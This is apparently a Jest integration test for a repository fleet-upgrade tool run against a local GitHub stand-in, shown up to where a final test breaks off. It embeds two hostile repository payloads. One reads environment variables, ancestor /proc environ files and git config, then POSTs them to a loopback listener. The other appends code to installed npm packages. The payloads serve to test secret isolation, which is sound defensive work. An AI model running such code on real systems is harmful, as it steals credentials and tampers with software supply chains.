/**
 * The fleet upgrade on GitHub: `sdlf-mesh upgrade --org acme` run as a user runs it (the compiled
 * command, GITHUB_TOKEN and GITHUB_API_URL) against the local GitHub stand-in, which checks every
 * request against GitHub's OpenAPI description and serves git through `git http-backend`.
 *
 * One domain repository is generated with the real `projen new` at template 0.1.0; its commit is
 * pushed to the repositories of the stand-in, one of each kind the upgrade must handle (edited by
 * its team, archived, one whose git the stand-in refuses, one with an open upgrade pull request,
 * and two hostile ones: one whose `.projenrc.ts` dumps every secret it can reach, one that plants
 * code in its packages), which are upgraded to 0.2.0 with the real npm and projen, two at a time.
 * The fleet's scale (100 repositories) is measured by `bench/fleet-upgrade.ts`.
 */
import * as fs from 'fs';
import * as http from 'http';
import { AddressInfo } from 'net';
import * as os from 'os';
import * as path from 'path';
import { STORE_CACHE_ENV, treeDigest } from '../../src/fleet/template-store-cache';
import { git } from '../support/git';
import { GitHubServer, RequestCounts } from '../support/github-server';
import { platformProject } from '../support/platform-project';
import { runSdlfMesh } from '../support/sdlf-mesh-cli';
import { synthesize } from '../support/synth';
import { generateDomain, MANAGED_CHANGE_0_2_0, SAMPLE_CHANGE_0_2_0, upgradeScenario } from '../support/template-versions';
import { simulateFleetUpgrade, WorkflowSimulationResult } from '../support/workflow-simulation';

// Each upgrade runs npm install and projen synth (15-25 s a repository alone, much more on a busy
// machine): the figures are printed at the end.
jest.setTimeout(45 * 60_000);

const TOKEN = 'ghp_fleetStandInToken0123456789abcdefABCD';
const BRANCH = 'sdlf-mesh/upgrade-0.2.0';
const TITLE = 'chore: upgrade the sdlf-mesh template to 0.2.0';
const EDITED_README = '# Finance data\n\nOur own words.\n';

/** What a repository of the fleet starts as. */
interface Seed {
  readonly name: string;
  /** The domain team's edits, committed on top of the generated commit. */
  readonly edited?: boolean;
  /** A `.projenrc.ts` that attacks the platform: dumps what it can reach, or plants code in its packages. */
  readonly hostile?: 'exfiltrate' | 'plant';
  readonly archived?: boolean;
  /** The stand-in refuses git for it: its clone fails. */
  readonly gitUnavailable?: boolean;
  /** A stale upgrade branch with an open pull request from an earlier run. */
  readonly openUpgrade?: boolean;
}

const SEEDS: Seed[] = [
  // First in line, so that code it planted would run in every later repository.
  { name: 'billing-data', hostile: 'plant' },
  { name: 'claims-data', hostile: 'exfiltrate' },
  { name: 'finance-data', edited: true },
  { name: 'legal-data', archived: true },
  { name: 'risk-data', openUpgrade: true },
  { name: 'sales-data' },
  { name: 'support-data', gitUnavailable: true },
];
/**
 * The repositories the fault-injection run upgrades: plain and edited. Both open a request, so one
 * meets the failed push and the other the three faults of opening one.
 */
const FAULT_SEEDS = SEEDS.filter((seed) => ['finance-data', 'sales-data'].includes(seed.name));
const UPGRADABLE = SEEDS.filter((seed) => !seed.archived && !seed.gitUnavailable);
/**
 * The repositories the workflow's simulation upgrades: edited, with an earlier upgrade branch of
 * its own (open pull request), and the one whose code hunts for tokens.
 */
const WORKFLOW_SEEDS = SEEDS.filter((seed) => ['claims-data', 'finance-data', 'risk-data'].includes(seed.name));

/** Figures printed at the end for the note. */
const measured: Record<string, RequestCounts & { seconds?: number }> = {};
const servers: GitHubServer[] = [];
let scratch: string;
let target: string;
/** The generated repository, with a branch `edited` holding the domain team's edits. */
let source: string;
let generatedCommit: string;
let editedCommit: string;
/** The hostile repositories' commits, by kind. */
const hostileCommits: Record<string, string> = {};
/** Where the hostile repositories send what they found. */
let loot: Loot;

const ROOT = process.getuid?.() === 0;
const commitOf = (seed: Seed) => (seed.hostile ? hostileCommits[seed.hostile] : seed.edited ? editedCommit : generatedCommit);

/**
 * What the hostile repositories found, sent to a listener on loopback: a sandboxed process reaches
 * it as a real attacker's would reach its own server, whether the sandbox is another user (root
 * runs) or a namespace that hides the test's folders (an ordinary user's). The first report of
 * each name is kept: a re-run (another sandbox user) may not overwrite it.
 */
class Loot {
  public static async start(): Promise<Loot> {
    const reports = new Map<string, string>();
    const server = http.createServer((request, response) => {
      const chunks: Buffer[] = [];
      request.on('data', (chunk: Buffer) => chunks.push(chunk));
      request.on('end', () => {
        const name = decodeURIComponent((request.url ?? '/').slice(1));
        if (!reports.has(name)) {
          reports.set(name, Buffer.concat(chunks).toString('utf8'));
        }
        response.end();
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return new Loot(server, `http://127.0.0.1:${(server.address() as AddressInfo).port}`, reports);
  }

  private constructor(
    private readonly server: http.Server,
    /** Where reports are sent: `POST <url>/<name>` with the report as the body. */
    public readonly url: string,
    /** The reports, by name. */
    public readonly reports: Map<string, string>,
  ) {}

  /**
   * A JavaScript statement that sends the report `text` named `name` (both expressions) and ends
   * once it is sent: the hostile code's process may exit right after it. It needs no variable of
   * its own, so that it can be planted anywhere.
   */
  public send(name: string, text: string): string {
    const post = 'const r = require("http").request(process.argv[1], { method: "POST" }); r.on("error", () => {}); r.end(require("fs").readFileSync(0));';
    return `try { require("child_process").execFileSync(process.execPath, ["-e", ${JSON.stringify(post)}, ${JSON.stringify(this.url)} + "/" + encodeURIComponent(${name})], { input: ${text}, stdio: ["pipe", "ignore", "ignore"], timeout: 10000 }); } catch {}`;
  }

  public close(): Promise<void> {
    return new Promise((resolve) => this.server.close(() => resolve()));
  }
}

/**
 * What a hostile domain team's `.projenrc.ts` runs (from `hostile.js`), on every run that computes the
 * upgrade: `exfiltrate` sends its environment, the environment of every process above it (the
 * platform's among them) and git's configuration; `plant` rewrites a file of its installed
 * packages so that any later `npx projen` that loads it (its own, or another repository's) sends
 * a mark named for the repository it runs in.
 */
function hostileCode(kind: 'exfiltrate' | 'plant'): string {
  const common = "const fs = require('fs'); const cp = require('child_process');\n";
  if (kind === 'exfiltrate') {
    return common + [
      'const found = { env: process.env, ancestors: [], git: "" };',
      'for (let pid = process.ppid; pid > 1; ) {',
      '  let stat; try { stat = fs.readFileSync(`/proc/${pid}/stat`, "utf8"); } catch { break; }',
      '  let environ; try { environ = fs.readFileSync(`/proc/${pid}/environ`, "utf8"); } catch (error) { environ = error.code; }',
      '  found.ancestors.push({ pid, environ });',
      '  pid = Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);',
      '}',
      'try { found.git = cp.execSync("git config --list --show-origin", { encoding: "utf8" }); } catch (error) { found.git = String(error.message); }',
      loot.send('"exfiltrated.json"', 'JSON.stringify(found)'),
    ].join('\n') + '\n';
  }
  return common + [
    `const mark = ${JSON.stringify(`\n${loot.send('"ran-in-" + require("path").basename(require("path").dirname(process.cwd()))', '""')}\n`)};`,
    'const results = {};',
    'for (const file of ["node_modules/projen/lib/index.js", "node_modules/sdlf-mesh/lib/index.js"]) {',
    '  try { fs.appendFileSync(file, mark); results[file] = "appended"; } catch (error) {',
    '    try { fs.chmodSync(file, 0o644); fs.appendFileSync(file, mark); results[file] = "appended after chmod"; } catch (again) {',
    '      // Its own tree: replacing the file is allowed, and changes only its own copy.',
    '      try { const text = fs.readFileSync(file, "utf8"); fs.unlinkSync(file); fs.writeFileSync(file, text + mark); results[file] = `replaced (${again.code})`; } catch (last) { results[file] = last.code; }',
    '    }',
    '  }',
    '}',
    loot.send('"plant-results.json"', 'JSON.stringify(results)'),
    // Its own packages, loaded afresh, run what it planted.
    'try { cp.execFileSync(process.execPath, ["-e", "require(\'projen\'); require(\'sdlf-mesh\')"], { stdio: "ignore" }); } catch {}',
  ].join('\n') + '\n';
}

/** GitHub's state after the one-machine run, for the repositories the workflow's simulation upgrades, and its stand-in. */
let oneMachine: Record<string, unknown>;
let oneMachineServer: GitHubServer;

const envFor = (server: GitHubServer) => ({ GITHUB_TOKEN: TOKEN, GITHUB_API_URL: server.url });

async function standIn(): Promise<GitHubServer> {
  const server = await GitHubServer.start({ users: ['alice'], organizations: [{ login: 'acme' }], tokens: { [TOKEN]: { login: 'alice' } } });
  servers.push(server);
  return server;
}

/** The fleet on a stand-in: the seeds as domain repositories, and two repositories that are not domains. */
async function seedFleet(server: GitHubServer, seeds: Seed[]): Promise<void> {
  for (const seed of seeds) {
    const repository = await server.model.createRepository('acme', seed.name, { topics: ['sdlf-domain', `domain-${seed.name.replace(/-data$/, '')}`] });
    await git(source, 'push', '--quiet', server.model.barePath('acme', seed.name), `${commitOf(seed)}:refs/heads/main`);
    if (seed.openUpgrade) {
      await git(source, 'push', '--quiet', server.model.barePath('acme', seed.name), `stale-upgrade:refs/heads/${BRANCH}`);
      const number = server.model.nextIssueNumber(repository);
      repository.pulls.push({ number, title: 'WIP template upgrade', body: 'stale', head: BRANCH, base: 'main', draft: false, state: 'open', labels: [], user: 'alice' });
    }
    repository.archived = seed.archived ?? false;
    repository.gitUnavailable = seed.gitUnavailable ?? false;
  }
  await server.model.createRepository('acme', 'website', { topics: ['web'] });
  await server.model.createRepository('acme', 'tools');
}

/** `sdlf-mesh upgrade --to 0.2.0 --org acme --concurrency 2 --draft ...` against a stand-in, timed. */
async function upgrade(server: GitHubServer, ...flags: string[]) {
  const started = Date.now();
  const run = await runSdlfMesh(['upgrade', '--to', target, '--org', 'acme', '--concurrency', '2', ...flags], envFor(server));
  return { ...run, seconds: (Date.now() - started) / 1000 };
}

const readReport = (file: string) => JSON.parse(fs.readFileSync(file, 'utf8'));
const show = (server: GitHubServer, name: string, ref: string) => git(server.model.barePath('acme', name), 'show', ref);

/**
 * What GitHub holds for the repositories: archived or not, each branch's tree (commits of two runs
 * differ in their dates, their content must not), and the pull requests.
 */
async function endState(server: GitHubServer, names: string[]) {
  const state: Record<string, unknown> = {};
  for (const name of names) {
    const repository = server.model.repository('acme', name)!;
    const branches: Record<string, string> = {};
    for (const [branch, commit] of await server.model.branches(repository)) {
      branches[branch] = await git(server.model.barePath('acme', name), 'rev-parse', `${commit}^{tree}`);
    }
    state[name] = {
      archived: repository.archived,
      branches,
      // Everything a reviewer sees of each pull request, as it is now (later runs change them).
      pulls: JSON.parse(JSON.stringify(repository.pulls.map(({ user: _, ...pull }) => pull))),
    };
  }
  return state;
}

beforeAll(async () => {
  scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'github-fleet-'));
  const scenario = await upgradeScenario();
  target = scenario.target;
  // The same generation as the local fleet suite's (made once a test run): every seed is a copy of it.
  source = await generateDomain(scenario.old, 'sales');
  generatedCommit = await git(source, 'rev-parse', 'HEAD');
  // The domain team's edits: its README, its stage code and a contract.
  await git(source, 'checkout', '-q', '-b', 'edited');
  fs.writeFileSync(path.join(source, 'README.md'), EDITED_README);
  fs.appendFileSync(path.join(source, 'src/stages/orders/light-transform.ts'), '// our change\n');
  fs.appendFileSync(path.join(source, 'dataproducts/orders.yaml'), '# reviewed by the domain team\n');
  await git(source, 'commit', '-q', '-am', 'domain team edits');
  editedCommit = await git(source, 'rev-parse', 'HEAD');
  // The hostile teams' commits.
  loot = await Loot.start();
  for (const kind of ['exfiltrate', 'plant'] as const) {
    await git(source, 'checkout', '-q', '-b', `hostile-${kind}`, generatedCommit);
    fs.writeFileSync(path.join(source, 'hostile.js'), hostileCode(kind));
    fs.appendFileSync(path.join(source, '.projenrc.ts'), "\nrequire('./hostile.js');\n");
    await git(source, 'add', 'hostile.js');
    await git(source, 'commit', '-q', '-am', `hostile: ${kind}`);
    hostileCommits[kind] = await git(source, 'rev-parse', 'HEAD');
  }
  // Half an upgrade an earlier run left behind.
  await git(source, 'checkout', '-q', '-b', 'stale-upgrade', generatedCommit);
  fs.appendFileSync(path.join(source, 'README.md'), 'half an upgrade\n');
  await git(source, 'commit', '-q', '-am', 'stale upgrade');
  await git(source, 'checkout', '-q', generatedCommit);
}, 10 * 60_000);

afterAll(async () => {
  await Promise.all([...servers.map((server) => server.close()), loot?.close()]);
});

describe('sdlf-mesh upgrade --org acme on a fleet of every kind of domain repository', () => {
  let server: GitHubServer;
  let run: Awaited<ReturnType<typeof upgrade>>;
  let reportFile: string;
  let report: any;
  /** GitHub's state after the uninterrupted run, which the run with faults must end in too. */
  let uninterrupted: Record<string, unknown>;

  beforeAll(async () => {
    server = await standIn();
    await seedFleet(server, SEEDS);
    reportFile = path.join(scratch, 'report.json');
    run = await upgrade(server, '--draft', '--report', reportFile);
    measured.upgrade = { ...server.counts(), seconds: run.seconds };
    report = readReport(reportFile);
    uninterrupted = await endState(server, FAULT_SEEDS.map((seed) => seed.name));
    oneMachine = await endState(server, WORKFLOW_SEEDS.map((seed) => seed.name));
    oneMachineServer = server;
  }, 45 * 60_000);

  test('each repository gets the outcome its state calls for; the one whose clone fails does not stop the others', () => {
    expect(run.exitCode).toBe(1);
    const expected = SEEDS.map((seed) => [
      `acme/${seed.name}`,
      seed.archived ? 'archived' : seed.gitUnavailable ? 'failed' : 'upgraded',
      seed.gitUnavailable ? 'clone' : null,
    ]);
    expect(report.repositories.map((row: any) => [row.repository, row.status, row.step ?? null])).toEqual(expected);
    expect(report.repositories.find((row: any) => row.repository === 'acme/support-data').error).toMatch(/503/);
    const upgraded = report.repositories.filter((row: any) => row.status === 'upgraded');
    expect(upgraded.map((row: any) => row.from)).toEqual(UPGRADABLE.map(() => '0.1.0'));
    expect(upgraded.filter((row: any) => !row.requestCreated).map((row: any) => row.repository)).toEqual(['acme/risk-data']);
    // The open pull request of acme/risk-data is number 1 too: it was updated, no second one opened.
    expect(upgraded.map((row: any) => row.requestUrl)).toEqual(UPGRADABLE.map((seed) => `${server.url}/acme/${seed.name}/pull/1`));
    expect(report.apiRequests).toEqual({ total: 1 + 2 * UPGRADABLE.length, contentCreating: UPGRADABLE.length });
    expect(run.output).toMatch(/acme\/sales-data\s+upgraded\s+0\.1\.0\s+0\.2\.0\s+http:\/\/127\.0\.0\.1:\d+\/acme\/sales-data\/pull\/1/);
    expect(server.violations).toEqual([]);
  });

  test('one pull request a repository: opened as a draft, the open one updated and not doubled', () => {
    for (const seed of SEEDS) {
      const pulls = server.model.repository('acme', seed.name)!.pulls;
      if (seed.archived || seed.gitUnavailable) {
        expect(pulls).toEqual([]);
        continue;
      }
      expect(pulls).toEqual([expect.objectContaining({ number: 1, title: TITLE, head: BRANCH, base: 'main', state: 'open', draft: !seed.openUpgrade })]);
      expect(pulls[0].body).toContain('from **0.1.0** to **0.2.0**');
      expect(pulls[0].body).toContain('- Governance tests check more.');
    }
    for (const other of ['website', 'tools']) {
      expect(server.model.repository('acme', other)!.pulls).toEqual([]);
    }
  });

  test('the branch pins the new template and regenerates the managed files; main is untouched', async () => {
    expect(JSON.parse(await show(server, 'sales-data', `${BRANCH}:package.json`)).dependencies['sdlf-mesh']).toBe(`file:${target}`);
    expect(await show(server, 'sales-data', `${BRANCH}:.projenrc.ts`)).toContain(`  templateVersion: 'file:${target}',`);
    expect(await show(server, 'sales-data', `${BRANCH}:test/governance.test.ts`)).toContain(MANAGED_CHANGE_0_2_0);
    expect(await show(server, 'sales-data', `${BRANCH}:README.md`)).not.toContain(SAMPLE_CHANGE_0_2_0);
    // The stale branch of the earlier run was replaced.
    expect(await show(server, 'risk-data', `${BRANCH}:README.md`)).not.toContain('half an upgrade');
    for (const seed of SEEDS) {
      expect(await git(server.model.barePath('acme', seed.name), 'rev-parse', 'main')).toBe(commitOf(seed));
    }
  });

  test('files the domain teams edited are untouched, and the sample the template changed is shown, not applied', async () => {
    for (const seed of SEEDS.filter((candidate) => candidate.edited)) {
      const bare = server.model.barePath('acme', seed.name);
      expect(await git(bare, 'show', `${BRANCH}:README.md`)).toBe(EDITED_README.trim());
      expect(await git(bare, 'show', `${BRANCH}:src/stages/orders/light-transform.ts`)).toContain('// our change');
      expect(await git(bare, 'show', `${BRANCH}:dataproducts/orders.yaml`)).toContain('# reviewed by the domain team');
      const changed = (await git(bare, 'diff', '--name-only', `main...${BRANCH}`)).split('\n');
      expect(changed).toEqual(expect.arrayContaining(['.projenrc.ts', 'package.json', 'test/governance.test.ts']));
      expect(changed.filter((file) => file.startsWith('dataproducts/') || file.startsWith('src/stages/') || file === 'README.md')).toEqual([]);
      expect(server.model.repository('acme', seed.name)!.pulls[0].body).toMatch(/### `README\.md`\n\n```diff\n[\s\S]*\+New in template 0\.2\.0\./);
      expect(server.model.repository('acme', seed.name)!.pulls[0].body).toContain('```diff\n--- a/README.md\n+++ b/README.md\n');
    }
  });

  test('the API is used for discovery and one content-creating request a repository; content moves with git', () => {
    const api = server.requests.filter((request) => request.kind === 'api');
    expect(api.filter((request) => request.route === 'GET /search/repositories')).toHaveLength(1);
    const writes = api.filter((request) => request.method !== 'GET').map((request) => request.route);
    expect(writes.filter((route) => route === 'POST /repos/{owner}/{repo}/pulls')).toHaveLength(UPGRADABLE.length - 1);
    expect(writes.filter((route) => route === 'PATCH /repos/{owner}/{repo}/pulls/{pull_number}')).toHaveLength(1);
    expect(measured.upgrade).toMatchObject({ total: 1 + 2 * UPGRADABLE.length, contentCreating: UPGRADABLE.length });
    expect(server.requests.filter((request) => request.route === 'git git-receive-pack' && request.method === 'POST')).toHaveLength(UPGRADABLE.length);
    // The token went to git as a header, never into a URL.
    expect(server.requests.every((request) => !request.url.includes(TOKEN))).toBe(true);
    expect(run.output + run.stderr).not.toContain(TOKEN);
  });

  test('a hostile repository finds no token in its environment, its ancestors\' or git\'s, and what it plants never runs in another repository', () => {
    const exfiltrated = loot.reports.get('exfiltrated.json')!;
    const found = JSON.parse(exfiltrated);
    expect(exfiltrated).not.toContain(TOKEN);
    expect(exfiltrated).not.toContain(Buffer.from(`x-access-token:${TOKEN}`).toString('base64'));
    expect(Object.keys(found.env).filter((key) => /TOKEN|GIT_CONFIG/.test(key))).toEqual([]);
    // It reached up past its own processes to the platform's, whose environment holds the token.
    expect(found.ancestors.length).toBeGreaterThan(3);
    if (ROOT) {
      const refused = found.ancestors.filter((ancestor: any) => ancestor.environ === 'EACCES');
      // Its own processes (npx, projen, the task's shell) it may read; none above them.
      expect(refused.length).toBeGreaterThan(0);
      expect(found.ancestors.slice(found.ancestors.indexOf(refused[0])).every((ancestor: any) => ancestor.environ === 'EACCES')).toBe(true);
    }
    // The planter's own packages ran its code; no other repository's did, as its own user (root
    // runs) or in a namespace of its own (an ordinary user's).
    const marks = [...loot.reports.keys()].filter((name) => name.startsWith('ran-in-'));
    expect(marks).toEqual(['ran-in-acme_billing-data']);
    const planted = JSON.parse(loot.reports.get('plant-results.json')!);
    // projen comes from the run's shared store. As its own user, the repository could not write
    // the file the others link, only replace it in its own tree; in a namespace, where its code
    // owns the store's files, it got copies of its own, which it changed and only it loads.
    expect(planted['node_modules/projen/lib/index.js']).toMatch(ROOT ? /^replaced \((EACCES|EPERM)\)$/ : /^appended after chmod$/);
    // The run's store, kept for the next runs, is as it was made: it matches its seal and holds no mark.
    const cache = process.env[STORE_CACHE_ENV]!;
    const stores = fs.readdirSync(cache).filter((name) => !name.includes('.'));
    expect(stores.length).toBeGreaterThan(0);
    for (const store of stores) {
      const modules = path.join(cache, store, 'store', 'node_modules');
      expect(treeDigest(modules)).toBe(JSON.parse(fs.readFileSync(path.join(cache, store, 'seal.json'), 'utf8')).digest);
      for (const file of ['projen/lib/index.js', 'sdlf-mesh/lib/index.js']) {
        expect(fs.readFileSync(path.join(modules, file), 'utf8')).not.toContain(loot.url);
      }
    }
    expect(report.isolatedByUser).toBe(ROOT);
    expect(report.isolation).toBe(ROOT ? 'user' : 'namespace');
  });

  test('fleet status reads each default branch\'s template and open upgrade pull request through the API', async () => {
    server.resetCounts();
    const status = await runSdlfMesh(['fleet', 'status', '--org', 'acme', '--json'], envFor(server));
    expect(status.exitCode).toBe(0);
    measured['fleet status'] = server.counts();
    const rows = JSON.parse(status.output);
    expect(rows.map((row: any) => row.repository)).toEqual(SEEDS.map((seed) => `acme/${seed.name}`));
    for (const row of rows) {
      expect(row.templateVersion).toMatch(/sdlf-mesh-0\.1\.0\.tgz$/);
    }
    const byName = (name: string) => rows.find((row: any) => row.repository === `acme/${name}`);
    expect(byName('sales-data').request).toBe(`${BRANCH} (draft) ${server.url}/acme/sales-data/pull/1`);
    expect(byName('risk-data').request).toBe(`${BRANCH} (open) ${server.url}/acme/risk-data/pull/1`);
    expect(byName('legal-data').archived).toBe(true);
    expect(byName('legal-data').request).toBeUndefined();
    expect(server.counts()).toEqual({ total: 1 + 2 * SEEDS.length, contentCreating: 0, git: 0 });
    expect(server.violations).toEqual([]);
  });

  test('--resume once the clone works again upgrades only what is left', async () => {
    server.model.repository('acme', 'support-data')!.gitUnavailable = false;
    server.resetCounts();
    const resumed = await upgrade(server, '--draft', '--resume', '--report', reportFile);
    measured['--resume (1 left)'] = { ...server.counts(), seconds: resumed.seconds };
    expect(resumed.exitCode).toBe(0);
    expect(resumed.output).not.toMatch(/^acme\/sales-data: clone/m);
    const rows = readReport(reportFile).repositories;
    expect(rows.find((row: any) => row.repository === 'acme/support-data')).toMatchObject({ status: 'upgraded', requestCreated: true });
    expect(rows.filter((row: any) => row.status === 'upgraded')).toHaveLength(UPGRADABLE.length + 1);
    expect(server.counts()).toMatchObject({ total: 3, contentCreating: 1 });
  });

  test('a plain re-run adds the labels it is given and nothing else; the next sends no content-creating request', async () => {
    // Each re-run computes the upgrade again (a branch is never trusted as it is): one repository,
    // edited by its team, shows it.
    server.resetCounts();
    const list = path.join(scratch, 're-run.txt');
    fs.writeFileSync(list, 'acme/finance-data\n');
    const labelledStart = Date.now();
    const labelled = await runSdlfMesh(['upgrade', '--to', target, '--repos', list, '--concurrency', '2', '--draft', '--labels', 'sdlf-mesh,template-upgrade'], envFor(server));
    measured['re-run (1), --labels'] = { ...server.counts(), seconds: (Date.now() - labelledStart) / 1000 };
    expect(labelled.exitCode).toBe(0);
    const upgradedNames = ['finance-data'];
    const writes = server.requests.filter((request) => request.kind === 'api' && request.method !== 'GET').map((request) => request.route);
    expect(writes.filter((route) => route === 'POST /repos/{owner}/{repo}/issues/{issue_number}/labels')).toHaveLength(upgradedNames.length);
    // No pull request is opened again, and none is rewritten: the description is kept in the upgrade commit.
    expect(writes.filter((route) => route !== 'POST /repos/{owner}/{repo}/issues/{issue_number}/labels')).toEqual([]);
    expect(server.requests.filter((request) => request.route === 'git git-receive-pack')).toEqual([]);
    for (const name of upgradedNames) {
      expect(server.model.repository('acme', name)!.pulls).toEqual([expect.objectContaining({ number: 1, labels: ['sdlf-mesh', 'template-upgrade'] })]);
    }

    server.resetCounts();
    const started = Date.now();
    const again = await runSdlfMesh(['upgrade', '--to', target, '--repos', list, '--concurrency', '2', '--draft', '--labels', 'sdlf-mesh,template-upgrade'], envFor(server));
    measured['re-run (1)'] = { ...server.counts(), seconds: (Date.now() - started) / 1000 };
    expect(again.exitCode).toBe(0);
    expect(server.counts().contentCreating).toBe(0);
    expect(server.requests.filter((request) => request.route === 'git git-receive-pack')).toEqual([]);
    expect(server.violations).toEqual([]);
  });

  test('faults mid-run (5xx, secondary limit with Retry-After, a reset after the pull request was opened, a failed push), then --resume: the same end state', async () => {
    const faulty = await standIn();
    await seedFleet(faulty, FAULT_SEEDS);
    faulty.inject({ route: 'POST /repos/{owner}/{repo}/pulls', fault: 'server-error' });
    faulty.inject({ route: 'POST /repos/{owner}/{repo}/pulls', fault: 'secondary-rate-limit' });
    // Opened, but the answer is lost: the client's retry meets "already exists".
    faulty.inject({ route: 'POST /repos/{owner}/{repo}/pulls', fault: 'connection-reset', afterHandling: true });
    faulty.inject({ route: 'git git-receive-pack', fault: 'server-error' });
    const faultReport = path.join(scratch, 'faults.json');

    const interrupted = await upgrade(faulty, '--draft', '--report', faultReport);
    measured['run with faults (2)'] = { ...faulty.counts(), seconds: interrupted.seconds };
    expect(interrupted.exitCode).toBe(1);
    expect(faulty.pendingFaults).toEqual([]);
    expect(readReport(faultReport).repositories.filter((row: any) => row.status === 'failed').map((row: any) => row.step)).toEqual(['push']);
    expect(interrupted.stderr).toMatch(/secondary rate limit was reached at POST .*\/pulls: waiting 1s/);

    faulty.resetCounts();
    const resumed = await upgrade(faulty, '--draft', '--resume', '--report', faultReport);
    measured['--resume after faults'] = { ...faulty.counts(), seconds: resumed.seconds };
    expect(resumed.exitCode).toBe(0);
    expect(readReport(faultReport).repositories.map((row: any) => row.status)).toEqual(FAULT_SEEDS.map(() => 'upgraded'));
    expect(await endState(faulty, FAULT_SEEDS.map((seed) => seed.name))).toEqual(uninterrupted);
    expect(faulty.violations).toEqual([]);
  });
});

describe('the platform repository\'s fleet-upgrade workflow, run job by job against the stand-in', () => {
  const APP_LOGIN = 'sdlf-fleet-bot';
  let server: GitHubServer;
  let simulation: WorkflowSimulationResult;
  let started: number;
  let seconds: number;

  beforeAll(async () => {
    server = await GitHubServer.start({ users: ['alice', APP_LOGIN], organizations: [{ login: 'acme' }], tokens: { [TOKEN]: { login: 'alice' } } });
    servers.push(server);
    await seedFleet(server, WORKFLOW_SEEDS);
    // The platform repository as sdlf-platform generates it, with the domains registered.
    const checkout = path.join(scratch, 'data-platform');
    synthesize(platformProject({}, checkout));
    for (const seed of WORKFLOW_SEEDS) {
      const domain = seed.name.replace(/-data$/, '');
      fs.writeFileSync(path.join(checkout, 'domains', `${domain}.yaml`), `domain: ${domain}\nrepository: acme/${seed.name}\n`);
    }
    await server.model.createRepository('acme', 'data-platform');
    // What the one-machine run's hostile repository found stays with that run.
    loot.reports.delete('exfiltrated.json');
    server.resetCounts();
    started = Date.now();
    simulation = await simulateFleetUpgrade({ server, checkout, to: target, appLogin: APP_LOGIN, dir: path.join(scratch, 'workflow-run') });
    seconds = (Date.now() - started) / 1000;
    measured['workflow simulation (3)'] = { ...server.counts(), seconds };
  }, 45 * 60_000);

  test('discovery, one fetch and one propose job a repository, the apply of the one wave, the report: all succeed, the empty waves are skipped', () => {
    // In the order the jobs ended (the matrix jobs of a phase side by side), sorted within a phase.
    const phase = (prefix: string) => simulation.jobs.filter((job) => job.name.startsWith(prefix)).map((job) => [job.name, job.result]).sort();
    const names = [...phase('Discover'), ...phase('fetch '), ...phase('propose '), ...phase('Apply'), ...phase('Report')];
    expect(names).toHaveLength(simulation.jobs.length);
    const repositories = WORKFLOW_SEEDS.map((seed) => `acme/${seed.name}`);
    expect(names).toEqual([
      ['Discover the domain repositories', 'success'],
      ...repositories.map((name) => [`fetch ${name}`, 'success']),
      ...repositories.map((name) => [`propose ${name}`, 'success']),
      ['Apply wave 1', 'success'],
      ['Report', 'success'],
    ]);
    expect(server.violations).toEqual([]);
  });

  test('its end state equals the one-machine run\'s (the workflow opens its pull requests ready for review, the one-machine run as drafts)', async () => {
    // The branches' names, and everything of the pull requests but the draft flag, are equal.
    const comparable = (repository: any) => ({
      ...repository,
      branches: Object.keys(repository.branches).sort(),
      pulls: repository.pulls.map(({ draft: _, ...pull }: any) => pull),
    });
    const comparableState = (state: Record<string, any>) =>
      Object.fromEntries(Object.entries(state).map(([name, repository]) => [name, comparable(repository)]));
    expect(comparableState(await endState(server, WORKFLOW_SEEDS.map((seed) => seed.name)))).toEqual(comparableState(oneMachine));
    // The branches hold the same files, but for one line: the lock file records the target's tarball
    // by its path relative to the working tree, which lies deeper on one machine than in a job (a
    // version from the registry has no such path).
    for (const seed of WORKFLOW_SEEDS) {
      const bare = oneMachineServer.model.barePath('acme', seed.name);
      await git(bare, 'fetch', '--quiet', server.model.barePath('acme', seed.name), `+refs/heads/${BRANCH}:refs/heads/workflow-run`);
      const changed = (await git(bare, 'diff', '-U0', BRANCH, 'workflow-run')).split('\n').filter((line) => /^[-+](?!-- |\+\+ )/.test(line));
      const side = (sign: string) => changed.filter((line) => line.startsWith(sign)).map((line) => line.slice(1).replace(/file:(\.\.\/)+/, 'file:'));
      expect([seed.name, await git(bare, 'diff', '--name-only', BRANCH, 'workflow-run')]).toEqual([seed.name, expect.stringMatching(/^(package-lock\.json)?$/)]);
      expect([seed.name, side('-')]).toEqual([seed.name, side('+')]);
    }
    // One content-creating request a repository, as on one machine; content moved with git.
    expect(server.counts().contentCreating).toBe(WORKFLOW_SEEDS.length);
    const report = JSON.parse(fs.readFileSync(path.join(simulation.artifacts, 'fleet-report', 'fleet-report.json'), 'utf8'));
    expect(report.repositories.map((row: any) => [row.repository, row.status])).toEqual(WORKFLOW_SEEDS.map((seed) => [`acme/${seed.name}`, 'upgraded']));
    expect(fs.readFileSync(path.join(simulation.artifacts, 'fleet-report', 'failed.txt'), 'utf8')).toBe('');
  });

  test('the jobs that run the domains\' code hold no secret, mint no token and have none in their environment; only the apply job can write', () => {
    const proposeJobs = simulation.jobs.filter((job) => job.name.startsWith('propose '));
    expect(proposeJobs.map((job) => job.secrets)).toEqual(WORKFLOW_SEEDS.map(() => []));
    expect(simulation.tokens.filter((token) => token.job.startsWith('propose ')).map((token) => [token.kind, token.permissions])).toEqual(WORKFLOW_SEEDS.map(() => ['workflow', ['contents=read']]));
    const everyToken = [TOKEN, ...simulation.tokens.map((token) => token.token)];
    const proposals = simulation.runSteps.filter((step) => step.command.includes('fleet propose'));
    expect(proposals).toHaveLength(WORKFLOW_SEEDS.length);
    for (const step of proposals) {
      expect(Object.keys(step.env).filter((key) => /TOKEN|SECRET|KEY/.test(key))).toEqual([]);
      expect(everyToken.filter((token) => JSON.stringify(step.env).includes(token))).toEqual([]);
    }
    // Tokens that can write: the apply job's app token alone, for the wave's repositories alone.
    const writers = simulation.tokens.filter((token) => token.permissions.some((permission) => permission.endsWith('=write')));
    expect(writers.map((token) => [token.job, token.kind, token.repositories])).toEqual([['Apply wave 1', 'app', WORKFLOW_SEEDS.map((seed) => `acme/${seed.name}`)]]);
    // Each fetch job's token reads its own repository alone.
    for (const seed of WORKFLOW_SEEDS) {
      expect(simulation.tokens.filter((token) => token.job === `fetch acme/${seed.name}` && token.kind === 'app').map((token) => token.repositories)).toEqual([[`acme/${seed.name}`]]);
    }
  });

  test('the hostile repository\'s code, run by its propose job, found no token in its environment, its ancestors\' or git\'s', () => {
    const exfiltrated = loot.reports.get('exfiltrated.json')!;
